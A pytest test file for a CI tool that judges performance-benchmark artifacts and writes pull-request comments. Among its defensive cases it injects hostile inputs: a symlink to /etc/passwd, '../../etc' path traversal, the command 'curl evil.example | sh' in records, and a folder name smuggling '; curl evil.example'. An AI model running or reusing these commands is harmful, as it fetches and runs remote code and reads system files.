from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from recorded import a_cell, baselines, unpacked

from perf.ci.fetch import Fetched
from perf.ci.github import GitHub
from perf.ci.machines import Cell
from perf.ci.outcome import WHOLE_JOB, judge_cell
from perf.ci.reporting import Place, report_of
from perf.report.comment import Origin, comment, headline
from perf.report.section import Section, rows_of
from perf.report.timeline import read_timelines
from perf.verdicts import EXIT_CODES, exit_code, worst


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return unpacked(tmp_path)


def judged(folder: Path, cell: Cell | None = None, conclusion: str | None = "failure", problem: str = "") -> Section:
    return judge_cell(cell or a_cell(), folder, baselines(), conclusion, problem)


def about_the_job(section: Section) -> list[tuple[str, str]]:
    return [(case.verdict, case.signals[0].message) for case in section.cases if case.case_id == WHOLE_JOB]


def test_the_recorded_job_is_judged_anew_from_its_records(folder: Path) -> None:
    section = judged(folder)
    assert {case.case_id: case.verdict for case in section.cases} == {
        "nano-cpu-b2": "pass",
        "nano-cpu-b2-compile-eager": "regressed",
        "seg-nano-cpu-b2-compile-eager": "regressed",
        "nano-cpu-b4-w0-convergence": "pass",
    }
    assert headline([section]).startswith("6 of 31 signals regressed on CPU, torch 2.14: ")
    assert "+2 graph breaks at tests/e2e/patches/extra_graph_break.py:12 and 1 more line" in headline([section])
    assert len(section.head) == 4
    assert len(section.base) == 3


def first(folder: Path, pattern: str) -> Path:
    return sorted(folder.rglob(pattern))[0]


def truncate(folder: Path) -> None:
    path = first(folder, "head/*/run-0.record.json")
    path.write_bytes(path.read_bytes()[:3_000])


def other_schema(folder: Path) -> None:
    path = first(folder, "head/*/run-0.record.json")
    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | {"schema_version": 2}), encoding="utf-8")


def huge(folder: Path) -> None:
    os.truncate(first(folder, "head/*/run-0.record.json"), 10**9)


def linked(folder: Path) -> None:
    path = first(folder, "head/*/run-0.record.json")
    path.unlink()
    path.symlink_to("/etc/passwd")


def without_manifest(folder: Path) -> None:
    first(folder, "ab.json").unlink()


def broken_manifest(folder: Path) -> None:
    first(folder, "ab.json").write_text('{"cases": ["../../etc"]}', encoding="utf-8")


def strange_manifest(folder: Path) -> None:
    path = first(folder, "ab.json")
    told = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(told | {"cases": ["../../etc"]}), encoding="utf-8")


def ungated(folder: Path) -> None:
    path = first(folder, "ab.json")
    told = json.loads(path.read_text(encoding="utf-8"))
    told["gate"], told["cases"] = ["device"], ["nano-cpu-b2"]
    path.write_text(json.dumps(told), encoding="utf-8")


def without_collapse(folder: Path) -> None:
    shutil.rmtree(folder / "collapse")


def elsewhere_collapsed(folder: Path) -> None:
    """The case of the head alone, measured, but in the A/B session."""
    (folder / "collapse" / "nano-cpu-b4-w0-convergence").rename(first(folder, "head") / "nano-cpu-b4-w0-convergence")
    (folder / "collapse" / "session.json").unlink()


def without_head(folder: Path) -> None:
    shutil.rmtree(first(folder, "head"))


def lenient(folder: Path) -> None:
    path = next(folder.rglob("ab.json"))
    path.write_text(json.dumps({**json.loads(path.read_text(encoding="utf-8")), "margin": 0.2}), encoding="utf-8")


def emptied(folder: Path) -> None:
    shutil.rmtree(folder)
    folder.mkdir()


def other_device(folder: Path) -> None:
    for path in folder.rglob("*.record.json"):
        path.write_text(path.read_text(encoding="utf-8").replace('"device": "cpu"', '"device": "nvidia-l4"', 1))


def says_other_device(folder: Path) -> None:
    (folder / "job.json").write_text('{"devices": ["nvidia-l4"], "problem": "the runner has nvidia-l4"}')


def odd_job(folder: Path) -> None:
    (folder / "job.json").write_text('{"devices": "@all"}', encoding="utf-8")


@pytest.mark.parametrize(
    ("spoil", "verdict", "why"),
    [
        (shutil.rmtree, "failed", "the job left no artifact"),
        (emptied, "failed", "base was not held against head"),
        (
            truncate,
            "failed",
            "cannot be judged: ab-20261130T072822Z-21709/head/nano-cpu-b2/run-0.record.json: not whole",
        ),
        (other_schema, "failed", "schema_version 2, and this rfdetr-perf reads 1"),
        (huge, "failed", "run-0.record.json: 1000000000 bytes"),
        (linked, "failed", "run-0.record.json: a link"),
        (without_manifest, "failed", "base was not held against head: there is no ab.json"),
        (broken_manifest, "failed", "ab.json: base: Field required"),
        (strange_manifest, "failed", "unknown case '../../etc'"),
        (ungated, "failed", "nothing gates count-strict, count-volume, quality; without nano-cpu-b2-compile-eager"),
        (lenient, "failed", "measured was a loss of 0.2 mAP allowed"),
        (without_collapse, "failed", "the head alone: no record of nano-cpu-b4-w0-convergence"),
        (elsewhere_collapsed, "failed", "the head alone: no record of nano-cpu-b4-w0-convergence"),
        (without_head, "failed", ""),
        (other_device, "incompatible", "measured on nvidia-l4 with torch 2.14, and the label cpu promises cpu with"),
        (says_other_device, "incompatible", "the runner has nvidia-l4"),
        (odd_job, "failed", "job.json: devices"),
    ],
)
def test_whatever_is_wrong_is_a_verdict_in_the_comment_and_never_green(
    folder: Path, spoil: Callable[[Path], None], verdict: str, why: str
) -> None:
    spoil(folder)
    section = judged(folder)
    if why:
        [*found] = [message for told, message in about_the_job(section) if told == verdict]
        assert any(why in message for message in found), about_the_job(section)
    code = exit_code(worst(row.verdict for _, _, row in rows_of([section])))
    assert code in (1, 3)
    assert EXIT_CODES[section.cases[0].verdict] != 0 or code == 1
    text = comment([section])
    assert verdict in text
    assert why.replace("'", "") in text.replace("'", "")


def test_a_machine_that_is_not_the_labels_is_the_first_that_is_said(folder: Path) -> None:
    emptied(folder)
    says_other_device(folder)
    section = judged(folder)
    assert about_the_job(section) == [("incompatible", "the runner has nvidia-l4")]
    assert headline([section]).endswith(": cpu-torch-2.14-quick, the runner has nvidia-l4.")


@pytest.mark.parametrize(
    ("conclusion", "why"),
    [
        ("cancelled", "the job was cancelled: what it left is not all"),
        ("timed_out", "the job was ended for its time"),
        ("startup_failure", "the job did not start"),
        ("skipped", "GitHub calls it 'skipped'"),
        ("neutral\n@all", "GitHub calls it 'neutral"),
    ],
)
def test_a_job_that_did_not_run_to_its_end_is_never_green(folder: Path, conclusion: str, why: str) -> None:
    section = judged(folder, conclusion=conclusion)
    assert why in about_the_job(section)[0][1]
    assert about_the_job(section)[0][0] == "failed"
    # What it left is judged all the same.
    assert len(section.cases) == 5


def test_a_job_that_passed_is_green(folder: Path) -> None:
    for patch in folder.glob("ab-*"):
        shutil.rmtree(patch / "head")
        shutil.copytree(patch / "base", patch / "head")
        for path in (patch / "head").rglob("*.record.json"):
            path.write_text(path.read_text(encoding="utf-8").replace("/base", "/head"), encoding="utf-8")
    section = judged(folder, conclusion="success")
    assert {case.verdict for case in section.cases} == {"pass"}
    assert "signals pass on CPU, torch 2.14" in headline([section])
    # A step that failed after the records were written: nobody knows what it would have found.
    section = judged(folder, conclusion="failure")
    assert about_the_job(section) == [("failed", "the job failed, although what it left passes: its log says why")]


def test_what_came_between_is_told_and_nothing_is_read(folder: Path) -> None:
    section = judged(folder, problem="its artifact has expired")
    assert headline([section]) == (
        "1 of 1 signal failed on CPU, torch 2.14: cpu-torch-2.14-quick, its artifact has expired."
    )
    assert about_the_job(section) == [("failed", "its artifact has expired")]
    assert section.head == []


def test_the_records_of_another_machine_do_not_stand_for_this_one(folder: Path) -> None:
    section = judged(folder, a_cell("h200"))
    told = about_the_job(section)
    assert (
        "incompatible",
        "measured on cpu with torch 2.14, and the label h200 promises nvidia-h200* with torch 2.11",
    ) in told
    assert any("no record of nano-b16-convergence" in message for _, message in told)


def test_other_commits_than_those_asked_for_are_said(folder: Path) -> None:
    cell = a_cell().model_copy(update={"head": "git+https://github.com/someone/rf-detr.git@abc"})
    assert any("head 1.11.2, asked for was git+https" in message for _, message in about_the_job(judged(folder, cell)))


COMMIT = {"rfdetr_source": "git+https://github.com/someone/rf-detr.git", "rfdetr_commit": "c" * 40}
ELSEWHERE = "git+https://github.com/someone/rf-detr.git@" + "d" * 40


@pytest.mark.parametrize(
    ("side", "changes", "asked", "why"),
    [
        ("head", {"rfdetr": "1.10.0", "rfdetr_source": "release 1.10.0"}, "1.11.2", "release 1.10.0"),
        ("base", {"rfdetr": "1.10.0", "rfdetr_source": "release 1.10.0"}, "1.11.2", "release 1.10.0"),
        ("collapse", COMMIT, "1.11.2", f"{COMMIT['rfdetr_source']}@{'c' * 40}"),
        ("collapse", COMMIT, ELSEWHERE, f"{COMMIT['rfdetr_source']}@{'c' * 40}"),
        ("collapse", {}, ELSEWHERE, "release 1.11.2"),
        ("collapse", {}, "git+https://github.com/someone/rf-detr.git@develop", "release 1.11.2"),
        ("collapse", {"rfdetr": "no version"}, "1.11.2", ""),
    ],
)
def test_records_of_another_rfdetr_than_the_session_says_are_never_green(
    folder: Path, side: str, changes: dict[str, str], asked: str, why: str
) -> None:
    for path in folder.rglob(f"{side}/*/*.record.json"):
        told = json.loads(path.read_text(encoding="utf-8"))
        told["environment"] |= changes
        path.write_text(json.dumps(told), encoding="utf-8")
    cell = a_cell().model_copy(update={"head" if side == "collapse" else side: asked})
    found = [message for verdict, message in about_the_job(judged(folder, cell)) if verdict == "failed"]
    name = "base" if side == "base" else "head"
    assert any(f"{name} {why}" in message and f"asked for was {asked}" in message for message in found) or not why
    assert found


@pytest.mark.parametrize("asked", ["git+https://github.com/someone/rf-detr.git@" + "c" * 40, "https://x/y.git@develop"])
def test_records_of_the_commit_that_was_asked_for_are_taken(folder: Path, asked: str) -> None:
    for path in folder.rglob("*.record.json"):
        told = json.loads(path.read_text(encoding="utf-8"))
        told["environment"] |= COMMIT
        path.write_text(json.dumps(told), encoding="utf-8")
    manifest = first(folder, "ab.json")
    manifest.write_text(manifest.read_text(encoding="utf-8").replace('"1.11.2"', json.dumps(asked)), encoding="utf-8")
    assert about_the_job(judged(folder, a_cell().model_copy(update={"head": asked, "base": asked}))) == []


def test_an_error_of_our_own_is_a_verdict_too(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> None:
        msg = "float division by zero"
        raise ZeroDivisionError(msg)

    monkeypatch.setattr("perf.ci.outcome._interleaved", fails)
    assert about_the_job(judged(folder)) == [("failed", "cannot be judged: ZeroDivisionError: float division by zero")]


def test_a_device_that_is_a_path_is_no_record(folder: Path) -> None:
    path = first(folder, "head/*/run-0.record.json")
    path.write_text(path.read_text(encoding="utf-8").replace('"device": "cpu"', '"device": "../../x"', 1))
    assert any("environment.device: String should match" in message for _, message in about_the_job(judged(folder)))
    path.write_text(path.read_text(encoding="utf-8").replace('"../../x"', '"cpu"').replace('"2.14"', '"2.14/../.."', 1))
    assert any("environment.torch_minor: String" in message for _, message in about_the_job(judged(folder)))


def test_what_cannot_be_shown_is_a_verdict_too(folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def fails(*_: object) -> None:
        msg = "float infinity"
        raise OverflowError(msg)

    monkeypatch.setattr("perf.report.page._distributions", fails)
    cell = a_cell()
    fetched = Fetched({cell.id: folder}, {}, {cell.id: "failure"})
    report = report_of(
        fetched, Place(GitHub("owner/suite", ""), 5), [cell], baselines(), Origin(), tmp_path / "page.html"
    )
    assert report.exit_code == 1
    assert "judged, but cannot be shown: OverflowError: float infinity" in report.comment
    assert "cannot be shown" in (tmp_path / "page.html").read_text(encoding="utf-8")


def test_two_machines_with_a_case_have_each_its_own_recompiles(tmp_path: Path) -> None:
    line = "V1130 10:00:00.5 12 torch/a.py:1 [0/0] [__recompiles] Recompiling function {} in a.py:1\n"
    cells = [a_cell().model_copy(update={"id": name}) for name in ("one", "two")]
    for cell in cells:
        [path] = set(unpacked(tmp_path / cell.id).glob("*/head/nano-cpu-b2-compile-eager/*.log"))
        path.write_text(line.format(f"of_{cell.id}"), encoding="utf-8")
    folders = {cell.id: tmp_path / cell.id for cell in cells}
    page = tmp_path / "page.html"
    fetched = Fetched(folders, {}, dict.fromkeys(folders, "failure"))
    report_of(fetched, Place(GitHub("owner/suite", ""), 5), cells, baselines(), Origin(), page)
    first_half, second_half = page.read_text(encoding="utf-8").split("<h2>two</h2>")
    assert ("of_one" in first_half, "of_two" in first_half) == (True, False)
    assert ("of_one" in second_half, "of_two" in second_half) == (False, True)


def test_a_log_with_a_time_that_there_is_none_of_is_no_event(folder: Path) -> None:
    line = "V{} 12 torch/a.py:1 [0/0] [__recompiles] Recompiling function f in a.py:1\n"
    path = first(folder, "head/*/run-0.record.json").with_name("run-0.recompiles.log")
    path.write_text(line.format("9999 99:99:99.1") + line.format("0101 10:00:00.5"), encoding="utf-8")
    [events] = [told["head run-0"] for told in read_timelines(folder / path.parents[2].name / "head").values()][:1]
    assert [event.seconds for event in events] == [0]


def test_a_case_that_the_machine_could_not_take_is_said_once_and_is_no_success(folder: Path) -> None:
    name = "nano-cpu-b4-w0-convergence"
    shutil.rmtree(folder / "collapse" / name)
    path = folder / "collapse" / "session.json"
    told = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(told | {"not_run": {name: "too little memory"}}), encoding="utf-8")
    section = judged(folder)
    assert about_the_job(section) == []
    assert [(case.verdict, case.signals[0].message) for case in section.cases if case.case_id == name] == [
        ("incompatible", "not run: too little memory")
    ]


def test_no_command_of_the_pull_requests_own_is_offered(folder: Path) -> None:
    for path in folder.rglob("*.record.json"):
        told = json.loads(path.read_text(encoding="utf-8"))
        path.write_text(json.dumps(told | {"command": "curl evil.example | sh"}), encoding="utf-8")
    manifest = first(folder, "ab.json")
    manifest.write_text(manifest.read_text(encoding="utf-8").replace("/env/bin/python", "/evil"), encoding="utf-8")
    told = {row.reproduce for _, _, row in rows_of([judged(folder)]) if row.reproduce}
    gate = "count-strict,count-volume,device,quality"
    again = f"nox -s ab-2.14 -- --same --base 1.11.2 --head 1.11.2 --gate {gate} --pairs 3 --case"
    assert told == {
        *(f"{again} {case}" for case in ("nano-cpu-b2", "nano-cpu-b2-compile-eager", "seg-nano-cpu-b2-compile-eager")),
        "nox -s perf-2.14 -- --rfdetr 1.11.2 --case nano-cpu-b4-w0-convergence",
    }


def test_a_run_of_another_repository_is_approved_in_a_checkout_of_the_suite(folder: Path) -> None:
    for path in folder.rglob("*.record.json"):
        text = path.read_text(encoding="utf-8").replace(", patched by extra_graph_break.py (41f5aed0)", "")
        path.write_text(text, encoding="utf-8")
    cell, [session] = a_cell(), [path.name for path in folder.glob("ab-*")]
    fetched = Fetched({cell.id: folder}, {}, {cell.id: "failure"})
    place = Place(GitHub("owner/rf-detr", ""), 5, of_suite=False)
    report = report_of(fetched, place, [cell], baselines(), Origin(), None)
    assert (
        "- refresh, once approved: `gh run download 5 -R owner/rf-detr -n rfdetr-perf-cpu-torch-2.14-quick -D run-5 && "
        f"rfdetr-perf refresh run-5/{session}/head --case nano-cpu-b2-compile-eager" in report.comment
    )
    assert "refresh.yml" not in report.comment
    # The name of a folder is the artifact's own.
    (folder / session).rename(folder / "ab; curl evil.example")
    report = report_of(fetched, place, [cell], baselines(), Origin(), None)
    assert "regressed" in report.comment
    assert "evil.example" not in report.comment
